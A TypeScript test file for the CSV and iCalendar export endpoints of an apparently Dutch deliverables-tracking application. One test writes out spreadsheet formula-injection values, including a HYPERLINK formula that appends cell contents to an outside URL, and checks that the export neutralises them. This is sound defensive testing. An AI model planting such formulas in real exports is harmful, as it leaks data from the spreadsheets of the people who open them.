import { parse } from 'csv-parse/sync';
import { fromGlobalId, toGlobalId } from 'graphql-relay';
import type ICALModule from 'ical.js' with { 'resolution-mode': 'import' };
import deliverablesJson from '../../../server/db/seed/data/deliverables.json';
import { createTestApp, type TestApp } from '../../helpers/app';
import { asUser } from '../../helpers/auth';
import { CREATE_DELIVERABLE, mutate, partyIds, POST_UPDATE } from '../../fixtures/deliverables';

const records = deliverablesJson as {
  key: string;
  type: string;
  programmeKey: string | null;
  status: string;
  due?: { label: string; latest: string } | null;
  ownerPartyKeys: string[];
  contributorPartyKeys: string[];
}[];

// ical.js ships a CommonJS build for require(); its type declarations describe the ES module.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const ICAL: typeof ICALModule = require('ical.js');

let app: TestApp;
let programmes: Record<string, string>;
beforeAll(async () => {
  app = await createTestApp();
  const rows: { key: string; id: string }[] = await app.dataSource.query('SELECT key, id FROM programme');
  programmes = Object.fromEntries(rows.map((r) => [r.key, toGlobalId('Programme', r.id)]));
});
afterAll(() => app.close());

async function get(path: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${app.baseUrl}${path}`, { headers });
  return { status: response.status, type: response.headers.get('content-type'), body: await response.text() };
}

describe('CSV of deliverables', () => {
  it('parses with a standard CSV parser and holds exactly the filtered deliverables', async () => {
    const res = await get(`/exports/deliverables.csv?programmeId=${encodeURIComponent(programmes.vvtb!)}&status=DONE`);
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^text\/csv/);
    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
    const expected = records.filter((r) => r.programmeKey === 'vvtb' && r.status === 'DONE');
    expect(rows.map((r) => r.key).sort()).toEqual(expected.map((r) => r.key).sort());
    for (const row of rows) expect(row.status).toBe('DONE');
    const letter = rows.find((r) => r.key === 'kamerbrief-hoofdlijnen-vvtb-2022')!;
    expect(letter).toMatchObject({ kind: 'MILESTONE', owners: 'VWS', dueLatest: '2022-12-02', duePrecision: 'DAY' });
    expect(Object.keys(letter)).not.toContain('lastUpdateText');
  });

  it('keeps commas, quotes and line breaks in texts intact', async () => {
    const [{ id: zin }] = await app.dataSource.query(`SELECT id FROM party WHERE key = 'zorginstituut'`);
    const title = 'Advies "scherp", met komma; en\nregelovergang';
    const { createDeliverable } = await mutate(app, 'vws.editor@example.org', CREATE_DELIVERABLE, {
      title,
      dueLabel: 'Q4 2031',
      ownerPartyIds: [toGlobalId('Party', zin)],
    });
    await mutate(app, 'zin.editor@example.org', POST_UPDATE, {
      deliverableId: createDeliverable.id,
      health: 'AT_RISK',
      text: 'Capaciteit, "krap".',
    });
    const res = await get(`/exports/deliverables.csv?dueAfter=2031-01-01`, await asUser(app, 'zin.viewer@example.org'));
    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      title,
      health: 'AT_RISK',
      lastUpdateText: 'Capaciteit, "krap".',
      dueLabel: 'Q4 2031',
    });
  });

  it('shows the last update as of the day asked for, as its health does', async () => {
    const [{ id: zin }] = await app.dataSource.query(`SELECT id FROM party WHERE key = 'zorginstituut'`);
    const { createDeliverable } = await mutate(app, 'vws.editor@example.org', CREATE_DELIVERABLE, {
      title: 'Opleverpunt met een oude en een nieuwe stand',
      dueLabel: 'Q3 2033',
      ownerPartyIds: [toGlobalId('Party', zin)],
    });
    for (const text of ['Oude stand.', 'Nieuwe stand.'])
      await mutate(app, 'zin.editor@example.org', POST_UPDATE, {
        deliverableId: createDeliverable.id,
        health: 'ON_TRACK',
        text,
      });
    await app.dataSource.query(
      `UPDATE status_update SET posted_at = '2026-01-10T12:00:00Z' WHERE text = 'Oude stand.'`,
    );
    const row = async (asOf: string) => {
      const res = await get(
        `/exports/deliverables.csv?dueAfter=2033-01-01&dueBefore=2033-12-31${asOf}`,
        await asUser(app, 'zin.viewer@example.org'),
      );
      const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
      expect(rows).toHaveLength(1);
      return { lastUpdateAt: rows[0]!.lastUpdateAt, lastUpdateText: rows[0]!.lastUpdateText };
    };
    expect(await row('&asOf=2026-02-01')).toEqual({
      lastUpdateAt: '2026-01-10T12:00:00.000Z',
      lastUpdateText: 'Oude stand.',
    });
    expect((await row('')).lastUpdateText).toBe('Nieuwe stand.');
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const [{ id: zin }] = await app.dataSource.query(`SELECT id FROM party WHERE key = 'zorginstituut'`);
    const formula = '=HYPERLINK("http://x"&A1,"Klik hier")';
    const { createDeliverable } = await mutate(app, 'vws.editor@example.org', CREATE_DELIVERABLE, {
      title: '@SUM(A1:A9)',
      dueLabel: 'Q2 2029',
      ownerPartyIds: [toGlobalId('Party', zin)],
    });
    await mutate(app, 'zin.editor@example.org', POST_UPDATE, {
      deliverableId: createDeliverable.id,
      health: 'AT_RISK',
      text: formula,
    });
    const res = await get(
      `/exports/deliverables.csv?dueAfter=2029-01-01&dueBefore=2029-12-31`,
      await asUser(app, 'zin.viewer@example.org'),
    );
    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ title: "'@SUM(A1:A9)", lastUpdateText: `'${formula}` });
  });

  it.each([
    ['an unknown status', '?status=LATE', 400, 'BAD_USER_INPUT'],
    ['a malformed day', '?dueBefore=31-12-2025', 400, 'BAD_USER_INPUT'],
    [
      'an id of the wrong type',
      `?programmeId=${encodeURIComponent(toGlobalId('Party', '00000000-0000-0000-0000-000000000000'))}`,
      400,
      'BAD_USER_INPUT',
    ],
    // The GraphQL filter's name, and a PHP-style list: neither may pass as "no filter" and export everything.
    ['an unknown parameter', '?sectorIds=abc', 400, 'BAD_USER_INPUT'],
    ['a parameter as a list', '?sectorId[]=abc', 400, 'BAD_USER_INPUT'],
  ])('answers %s with %s', async (_case, query, status, code) => {
    const res = await get(`/exports/deliverables.csv${query}`);
    expect(res.status).toBe(status);
    expect(JSON.parse(res.body).errors[0].extensions.code).toBe(code);
  });

  it('is kept by no shared or disk cache, and varies by who asks', async () => {
    for (const headers of [{}, await asUser(app, 'zin.viewer@example.org')]) {
      const response = await fetch(`${app.baseUrl}/exports/deliverables.csv?status=DONE`, { headers });
      await response.text();
      expect([response.status, response.headers.get('cache-control'), response.headers.get('vary')]).toEqual([
        200,
        'private, no-store',
        'authorization',
      ]);
    }
  });

  it('answers a bad token with 401, like /graphql', async () => {
    const res = await get('/exports/deliverables.csv', { authorization: 'Bearer not-a-token' });
    expect(res.status).toBe(401);
    expect(JSON.parse(res.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
  });
});

describe('iCalendar feed of milestones', () => {
  it('parses with ical.js and holds the party’s dated milestones and decisions as all-day events', async () => {
    const { zonmw } = await partyIds(app, ['zonmw']);
    const res = await get(`/exports/milestones.ics?partyId=${encodeURIComponent(zonmw!)}`);
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^text\/calendar/);
    const calendar = new ICAL.Component(ICAL.parse(res.body));
    const events = calendar.getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
    const expected = records.filter(
      (r) =>
        r.type !== 'DELIVERABLE' &&
        r.due &&
        r.status !== 'CANCELLED' &&
        [...r.ownerPartyKeys, ...r.contributorPartyKeys].includes('zonmw'),
    );
    expect(expected.length).toBeGreaterThan(2);
    expect(events).toHaveLength(expected.length);
    const start = new Map(events.map((e) => [e.summary, e.startDate]));
    const kppz = records.find((r) => r.key === 'kppz-start')!;
    const event = events.find((e) => e.description.includes(kppz.due!.label))!;
    expect(event.startDate.isDate).toBe(true);
    expect(event.startDate.toString()).toBe(kppz.due!.latest);
    expect(start.size).toBe(events.length);
  });

  it('requires the party', async () => {
    const res = await get('/exports/milestones.ics');
    expect(res.status).toBe(400);
    expect(JSON.parse(res.body).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'partyId' });
  });

  // A calendar app subscribes once: an empty calendar for a mistyped party would look like a quiet one.
  // Parties are public, so a party one may not read does not arise.
  it.each([
    ['the id of no party', toGlobalId('Party', '00000000-0000-0000-0000-000000000000'), 404, { code: 'NOT_FOUND' }],
    [
      'the id of a sector',
      toGlobalId('Sector', '00000000-0000-0000-0000-000000000000'),
      400,
      { code: 'BAD_USER_INPUT', field: 'partyId' },
    ],
    ['no id at all', 'geen-id', 400, { code: 'BAD_USER_INPUT', field: 'partyId' }],
  ])(
    'refuses a party given as %s, rather than answer an empty calendar',
    async (_case, partyId, status, extensions) => {
      const res = await get(`/exports/milestones.ics?partyId=${encodeURIComponent(partyId)}`);
      expect(res.status).toBe(status);
      expect(JSON.parse(res.body).errors[0].extensions).toEqual(extensions);
    },
  );

  it('refuses a parameter it does not read, naming it; a cache buster or campaign tag passes', async () => {
    const { zonmw } = await partyIds(app, ['zonmw']);
    const feed = `/exports/milestones.ics?partyId=${encodeURIComponent(zonmw!)}`;
    const res = await get(`${feed}&until=2030-01-01`);
    expect(res.status).toBe(400);
    expect(JSON.parse(res.body).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'until' });
    const tagged = await get(`${feed}&_=1733490000&utm_source=nieuwsbrief`);
    expect(tagged.status).toBe(200);
    // The same calendar; only the moment it was generated (DTSTAMP) may differ.
    const events = (body: string) => body.split(/\r?\n/).filter((line) => !line.startsWith('DTSTAMP'));
    expect(events(tagged.body)).toEqual(events((await get(feed)).body));
  });
});

describe('database backstops answer as client errors', () => {
  it.each([
    ['an impossible day', '2025-02-30'],
    ['year zero', '0000-01-01'],
  ])('export refuses %s with 400', async (_case, day) => {
    const res = await fetch(`${app.baseUrl}/exports/deliverables.csv?asOf=${day}`);
    expect(res.status).toBe(400);
  });
});

describe('an export past its limit', () => {
  let big: TestApp;
  beforeAll(async () => {
    big = await createTestApp();
    // 5 001 more deliverables, each a copy of one under a key of its own.
    await big.dataSource.query(`
      DO $$
      DECLARE cols text;
      BEGIN
        SELECT string_agg(quote_ident(column_name), ', ') INTO cols
          FROM information_schema.columns
         WHERE table_schema = current_schema() AND table_name = 'deliverable'
           AND column_name NOT IN ('id', 'key') AND is_generated = 'NEVER';
        EXECUTE format('INSERT INTO deliverable (key, %1$s) SELECT ''bulk-'' || g, %1$s FROM deliverable
                        CROSS JOIN generate_series(1, 5001) g
                        WHERE deliverable.id = (SELECT id FROM deliverable ORDER BY id LIMIT 1)', cols);
      END $$`);
  }, 60_000);
  afterAll(() => big.close());

  it('is refused with a message that says how to narrow it, not cut off without a word', async () => {
    const response = await fetch(`${big.baseUrl}/exports/deliverables.csv`);
    const body = (await response.json()) as { errors: { message: string; extensions: { code: string } }[] };
    expect([response.status, body.errors[0]!.extensions.code]).toEqual([400, 'BAD_USER_INPUT']);
    expect(body.errors[0]!.message).toMatch(/more than 5000 deliverables\. Narrow it/);
    const narrowed = await fetch(`${big.baseUrl}/exports/deliverables.csv?dueAfter=2031-01-01`);
    expect(narrowed.status).toBe(200);
  });

  it('refuses a calendar of more than 2 000 entries the same way', async () => {
    // 2 001 more milestones, copies of one of a deliverable the Zorginstituut owns.
    const [zin] = await big.dataSource.query(`SELECT id FROM party WHERE key = 'zorginstituut'`);
    const { createDeliverable: d } = await mutate(big, 'vws.editor@example.org', CREATE_DELIVERABLE, {
      title: 'Opleverpunt met veel mijlpalen',
      dueLabel: 'Q4 2031',
      ownerPartyIds: [toGlobalId('Party', zin.id)],
    });
    const { createMilestone: m } = await mutate(
      big,
      'vws.editor@example.org',
      `mutation($input: CreateMilestoneInput!) { createMilestone(input: $input) { id } }`,
      { deliverableId: d.id, title: 'Tussenstap', dueLabel: 'Q3 2031' },
    );
    const owned = { id: fromGlobalId(m.id).id, party_id: zin.id as string };
    await big.dataSource.query(
      `DO $$
       DECLARE cols text;
       BEGIN
         SELECT string_agg(quote_ident(column_name), ', ') INTO cols
           FROM information_schema.columns
          WHERE table_schema = current_schema() AND table_name = 'milestone'
            AND column_name <> 'id' AND is_generated = 'NEVER';
         EXECUTE format('INSERT INTO milestone (%1$s) SELECT %1$s FROM milestone CROSS JOIN generate_series(1, 2001)
                         WHERE milestone.id = %2$L', cols, '${owned.id}');
       END $$`,
    );
    const partyId = Buffer.from(`Party:${owned.party_id}`).toString('base64');
    const response = await fetch(`${big.baseUrl}/exports/milestones.ics?partyId=${encodeURIComponent(partyId)}`);
    const body = (await response.json()) as { errors: { message: string; extensions: { code: string } }[] };
    expect([response.status, body.errors[0]!.extensions.code]).toEqual([400, 'BAD_USER_INPUT']);
    expect(body.errors[0]!.message).toMatch(/more than 2000 entries\. Narrow it with "from" and "to"/);
  });
});
